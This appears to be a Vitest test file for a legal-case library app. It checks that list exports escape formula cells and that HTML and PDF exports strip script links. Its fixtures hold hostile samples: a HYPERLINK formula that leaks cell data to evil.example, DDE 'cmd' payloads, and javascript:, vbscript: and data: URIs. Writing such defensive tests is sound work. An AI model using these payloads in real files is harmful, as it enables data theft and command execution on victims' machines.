import ExcelJS from 'exceljs';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../core/import/list/csv';
import { starterServiceWithPrinter } from '../helpers/exportService';
import { sampleCase } from '../helpers/sampleCase';
import { serviceForFile } from '../helpers/tempLibrary';

/**
 * Exports are inert (issue 15): a cell that a spreadsheet would run as a formula is written as
 * text, and only http, https, mailto and in-page links survive into HTML and PDF.
 */
const lib = serviceForFile(starterServiceWithPrinter);

const FORMULAS = {
  title: '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
  defendant: "+cmd|' /C calc'!A0",
  region: '-2+3',
  source: "@SUM(1+1)*cmd|' /C calc'!A0",
  issues: '\t=1+1',
  lessons: '\r=1+1',
};

const LINKS = [
  '[网页](https://example.com/a)',
  '[邮件](mailto:fazhi@example.gov.cn)',
  '[脚本](javascript:alert(1))',
  '[旧脚本](vbscript:msgbox(1))',
  '[数据](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[编码脚本](&#106;avascript:alert(1))',
].join('，');

async function hostileCase(): Promise<string> {
  const saved = await lib.service.call('cases.save', {
    case: sampleCase({
      caseNumber: '（2024）测99行初9号',
      ...FORMULAS,
      analysis: `评析中的链接：${LINKS}。`,
    }),
  });
  return saved.id;
}

describe('spreadsheet exports neutralise formulas', () => {
  it('CSV and xlsx list exports prefix = + - @ tab and CR cells with an apostrophe', async () => {
    const id = await hostileCase();
    const csv = await lib.service.call('export.list', {
      caseIds: [id],
      format: 'csv',
      path: lib.tmp.path('列表.csv'),
    });
    const [header, row] = parseCsv(readFileSync(csv.path, 'utf8').replace(/^\ufeff/, ''));
    const cell = (title: string) => row![header!.indexOf(title)];
    expect(cell('标题')).toBe(`'${FORMULAS.title}`);
    expect(cell('被告行政机关')).toBe(`'${FORMULAS.defendant}`);
    expect(cell('地区')).toBe(`'${FORMULAS.region}`);
    expect(cell('来源')).toBe(`'${FORMULAS.source}`);
    expect(cell('案号')).toBe('（2024）测99行初9号');

    const xlsx = await lib.service.call('export.list', {
      caseIds: [id],
      format: 'xlsx',
      path: lib.tmp.path('列表.xlsx'),
    });
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(xlsx.path);
    const sheet = book.worksheets[0]!;
    const headers = (sheet.getRow(1).values as unknown[]).map(String);
    const value = (title: string) => sheet.getRow(2).getCell(headers.indexOf(title)).value;
    expect(value('标题')).toBe(`'${FORMULAS.title}`);
    expect(value('被告行政机关')).toBe(`'${FORMULAS.defendant}`);
    // No cell of the sheet is a formula.
    sheet.eachRow((r) => r.eachCell((c) => expect(c.formula).toBeUndefined()));
  });

  it('a CSV list import keeps a formula cell as inert text', async () => {
    const csv = `标题,类别,结果,案号\n${'"=HYPERLINK(""http://evil.example"",""x"")"'},行政处罚,撤销,（2024）测98行初8号\n`;
    const preview = await lib.service.call('import.preview', {
      files: [{ name: '清单.csv', dataBase64: Buffer.from(csv).toString('base64') }],
    });
    expect(preview.failures).toEqual([]);
    expect(preview.drafts[0]!.case.title).toBe('\'=HYPERLINK("http://evil.example","x")');
  });
});

describe('HTML and PDF exports keep only http, https and mailto links', () => {
  it('drops javascript:, vbscript: and data: targets, keeping their text', async () => {
    const id = await hostileCase();
    const { html } = await lib.service.call('export.printHtml', { caseId: id });
    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1]!);
    expect(hrefs).toContain('https://example.com/a');
    expect(hrefs).toContain('mailto:fazhi@example.gov.cn');
    for (const href of hrefs) expect(href).toMatch(/^(https?:|mailto:|#)/);
    for (const text of ['脚本', '旧脚本', '数据', '编码脚本']) expect(html).toContain(text);

    const pdf = await lib.service.call('export.case', { id, format: 'pdf', path: lib.tmp.path('案例.pdf') });
    const raw = readFileSync(pdf.path).toString('latin1');
    const uris = [...raw.matchAll(/\/URI\s*\(([^)]*)\)/g)].map((m) => m[1]!);
    expect(uris).toContain('https://example.com/a');
    for (const uri of uris) expect(uri).toMatch(/^(https?:|mailto:)/);
  });
});
